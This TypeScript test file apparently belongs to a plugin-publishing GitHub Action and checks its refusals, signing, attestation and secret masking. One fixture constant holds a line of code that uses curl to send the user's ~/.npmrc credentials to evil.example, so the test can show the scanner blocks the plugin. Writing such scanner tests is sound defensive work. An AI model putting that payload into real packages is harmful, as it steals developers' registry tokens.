import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Tally } from '../corpus/tally.ts';
import { SERVER } from './fake-sigstore.ts';
import { parsePlugins, parseRecord, parseStatement } from './parse-outputs.ts';
import { runAction, TOKEN, type Job, type StepResult } from './runner.ts';
import type { World } from './world.ts';

const MALICE =
  "require('child_process').exec('curl -d @' + process.env.HOME + '/.npmrc https://evil.example');\n";

export async function checkPublish(world: World, { check }: Tally): Promise<void> {
  const publish = (inputs: Record<string, string> = {}, change: Partial<Job> = {}): Promise<StepResult> =>
    runAction(
      'publish',
      { plugins: 'plugins-src/*', 'signing-keys': world.secret, ...inputs },
      world.job(change),
    );
  const onTag = (tag: string): Partial<Job> => ({ env: { GITHUB_REF_TYPE: 'tag', GITHUB_REF_NAME: tag } });
  const timestamp = (): Promise<Buffer> =>
    readFile(join(world.workspace, 'vault/repository/metadata/timestamp.json'));
  const refuses = async (step: Promise<StepResult>, code: string): Promise<StepResult> => {
    const [before, result] = [await timestamp(), await step];
    assert.equal(result.code, 1, result.log);
    assert.match(result.log, new RegExp(`::error::.*${code}`));
    assert.match(result.log, /^hint: ./m);
    assert.deepEqual(await timestamp(), before, 'nothing was published');
    assert.equal(result.outputs.get('published'), 'false');
    return result;
  };

  await world.addPlugin('hello', { name: '@acme/hello', version: '1.0.0', bin: 'hello' });
  await world.addPlugin('tool', { name: 'tool', version: '2.0.0' });

  await check(
    'publish: a pull request without secrets packs, scans and plans, and writes nothing',
    async () => {
      const before = await timestamp();
      const event = { pull_request: { head: { repo: { fork: true } } } };
      const step = await publish(
        { 'signing-keys': '' },
        { event, env: { GITHUB_EVENT_NAME: 'pull_request' } },
      );
      assert.equal(step.code, 0, step.log);
      assert.deepEqual(statuses(step), ['planned', 'planned']);
      assert.equal(step.outputs.get('published'), 'false');
      assert.deepEqual(await timestamp(), before);
      assert.equal(world.github.artifacts.size, 0);
    },
  );
  await check('publish: a run of a fork that would sign says why it has no keys', async () => {
    const event = { pull_request: { head: { repo: { fork: true } } } };
    const step = await refuses(
      publish({ 'signing-keys': '', 'dry-run': 'false' }, { event }),
      'ERR_SIGNER_UNAVAILABLE',
    );
    assert.match(step.log, /withholds secrets from a fork/);
  });
  await check('publish: a root key in the secret is refused', async () => {
    const secret = `${world.secret}\n${await readFile(world.rootKey, 'utf8')}`;
    await refuses(publish({ 'signing-keys': secret }), 'ERR_ROOT_KEY_ONLINE');
  });
  for (const [tag, why] of [
    ['@acme/hello@1.2.3', 'another version than the manifest'],
    ['nope@1.0.0', 'a plugin that is not here'],
    ['release-1', 'no pattern'],
    ['v1.0.0', 'two plugins alike'],
  ] as const)
    await check(`publish: a tag that fits ${why} is refused`, () =>
      refuses(publish({}, onTag(tag)), 'ERR_TAG_MISMATCH'),
    );
  await check('publish: a glob that matches nothing is refused', () =>
    refuses(publish({ plugins: 'nothing/*' }), 'ERR_PLUGIN_SOURCE'),
  );
  await check('publish: a word that is none of a choice is refused, and not repeated', async () => {
    const step = await refuses(publish({ 'dry-run': 's3cret' }), 'ERR_USAGE');
    assert.doesNotMatch(step.log, /s3cret/);
  });

  await check('publish: a tag releases one plugin of two, without its scope too', async () => {
    const step = await publish({}, onTag('hello@1.0.0'));
    assert.equal(step.code, 0, step.log);
    assert.deepEqual(statuses(step), ['published']);
    assert.equal(step.outputs.get('published'), 'true');
    assert.equal(parseRecord(step.outputs.get('metadata-versions'))['timestamp'], 2);
    assert.ok(Number(step.outputs.get('artifact-id')) >= 1000);
    assert.match(step.summary, /# Plugins: published[\s\S]*acme\/hello[\s\S]*root: sha256:[0-9a-f]{64}/);
    assert.equal((await jsonAt(step, 'sarif-file'))['version'], '2.1.0');
    assert.equal((await jsonAt(step, 'sbom-file'))['bomFormat'], 'CycloneDX');
    assertSecretsKept(step, world);
  });
  await check('publish: the same tag again changes nothing', async () => {
    const before = await timestamp();
    const step = await publish({}, onTag('@acme/hello@1.0.0'));
    assert.equal(step.code, 0, step.log);
    assert.deepEqual(statuses(step), ['unchanged']);
    assert.equal(step.outputs.get('published'), 'false');
    assert.deepEqual(await timestamp(), before);
  });
  await check('publish: other bytes under a tag are refused, and without a tag left out', async () => {
    await world.addPlugin('hello', { name: '@acme/hello', version: '1.0.0', source: 'exports.other = 1;\n' });
    await refuses(publish({}, onTag('hello@1.0.0')), 'ERR_VERSION_EXISTS');
    const step = await publish();
    assert.equal(step.code, 0, step.log);
    assert.deepEqual(statuses(step), ['skipped', 'published']);
    assert.match(step.log, /::notice::skipped: @acme\/hello@1\.0\.0/);
  });
  await check('publish: a malicious plugin is refused, with an annotation on its file and line', async () => {
    await world.addPlugin('evil', { name: 'evil', version: '1.0.0', source: MALICE });
    const step = await refuses(publish({ plugins: 'plugins-src/evil' }), 'ERR_SCAN_BLOCKED');
    assert.match(step.log, /::error title=[^\n]*,?file=plugins-src\/evil\/index\.js,line=1/);
    assert.match(step.summary, /# Plugins: refused/);
    assert.match(step.outputs.get('plugins') ?? '', /"status":"refused"/);
    assert.ok((step.outputs.get('sarif-file') ?? '') !== '');
  });
  await check('publish: eight plugins and one tag publish one', async () => {
    for (let number = 1; number <= 8; number += 1)
      await world.addPlugin(`many/p${number}`, { name: `@many/p${number}`, version: '1.0.0' });
    const step = await publish({ plugins: 'plugins-src/many/*' }, onTag('@many/p5@1.0.0'));
    assert.equal(step.code, 0, step.log);
    assert.match(step.outputs.get('plugins') ?? '', /^\[\{"name":"@many\/p5"/);
  });
  await check('publish: two tags at once publish both', async () => {
    const tags = ['@many/p6@1.0.0', '@many/p7@1.0.0'];
    const both = await Promise.all(tags.map((tag) => publish({ plugins: 'plugins-src/many/*' }, onTag(tag))));
    for (const step of both) assert.equal(step.code, 0, step.log);
    assert.deepEqual(both.flatMap(statuses), ['published', 'published']);
  });
  await check('publish: a release gets the archive, once', async () => {
    const change = {
      event: { release: { id: 7 } },
      env: { GITHUB_EVENT_NAME: 'release', ...onTag('@many/p7@1.0.0').env },
    };
    const step = await publish({ plugins: 'plugins-src/many/*' }, change);
    assert.equal(step.code, 0, step.log);
    assert.deepEqual([...world.github.assets.keys()], ['p7-1.0.0.tgz']);
    await publish({ plugins: 'plugins-src/many/*' }, change);
    assert.equal(world.github.seen.filter(({ call }) => call.startsWith('POST /uploads')).length, 1);
  });
  await check('publish: a release that the token may not write says which permission to add', async () => {
    world.github.denied.push('GET /repos/acme/plugins/releases');
    const change = {
      event: { release: { id: 8 } },
      env: { GITHUB_EVENT_NAME: 'release', ...onTag('@many/p6@1.0.0').env },
    };
    const step = await publish({ plugins: 'plugins-src/many/*' }, change);
    assert.equal(step.code, 0, step.log);
    assert.match(step.log, /::warning::.*permissions: \{ contents: write \}/);
  });
  await check('publish: new archives are attested before they are published, and not again', async () => {
    await world.addPlugin('proven', { name: 'proven', version: '1.0.0' });
    const env = {
      ...{ GITHUB_SERVER_URL: SERVER, E2E_HOSTS: '.e2e.ghe.com', E2E_SERVICE: world.github.url },
      ...{
        ACTIONS_ID_TOKEN_REQUEST_URL: `${world.github.url}/oidc?x=1`,
        ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'e2e',
      },
    };
    const attested = (): Promise<StepResult> =>
      publish({ plugins: 'plugins-src/proven', attest: 'true' }, { env });
    const step = await attested();
    assert.equal(step.code, 0, step.log);
    const [plugin] = parsePlugins(step.outputs.get('plugins'));
    const [statement] = world.github.attestations.map(parseStatement);
    assert.equal(statement?.predicateType, 'https://slsa.dev/provenance/v1');
    assert.deepEqual(statement.subject, [{ name: plugin?.targetPath, digest: { sha256: plugin?.sha256 } }]);
    assert.deepEqual(statuses(await attested()), ['unchanged']);
    assert.equal(world.github.attestations.length, 1);
  });
  await check('publish: a job that may not attest is told what to add, and publishes nothing', async () => {
    await world.addPlugin('unproven', { name: 'unproven', version: '1.0.0' });
    const env = { GITHUB_SERVER_URL: SERVER };
    const step = await refuses(
      publish({ plugins: 'plugins-src/unproven', attest: 'true' }, { env }),
      'ERR_ATTEST_FAILED',
    );
    assert.match(step.log, /hint: .*id-token: write, attestations: write/);
  });
  await check("publish: a server of one's own has no artifacts, which is a warning", async () => {
    const env = { GITHUB_SERVER_URL: 'http://ghes.example', GITHUB_API_URL: `${world.github.url}/api/v3` };
    const step = await publish({ plugins: 'plugins-src/tool' }, { env });
    assert.equal(step.code, 0, step.log);
    assert.match(step.log, /::warning::no artifact/);
    assert.equal(step.outputs.get('artifact-id'), '');
  });
}

function statuses({ outputs }: StepResult): readonly string[] {
  return parsePlugins(outputs.get('plugins')).map(({ status }) => status);
}

async function jsonAt({ outputs }: StepResult, name: string): Promise<Readonly<Record<string, unknown>>> {
  return parseRecord(await readFile(outputs.get(name) ?? '', 'utf8'));
}

function assertSecretsKept({ log, raw, outputs, summary }: StepResult, { secret }: World): void {
  const said = [log, summary, ...outputs.values()].join('\n');
  const lines = secret.split('\n').filter((line) => line !== '' && !line.startsWith('-----'));
  for (const text of [...lines, TOKEN, 'e2eRuntimeSecret'])
    assert.ok(!said.includes(text), 'a secret was printed');
  assert.match(raw, /^::add-mask::/m);
}
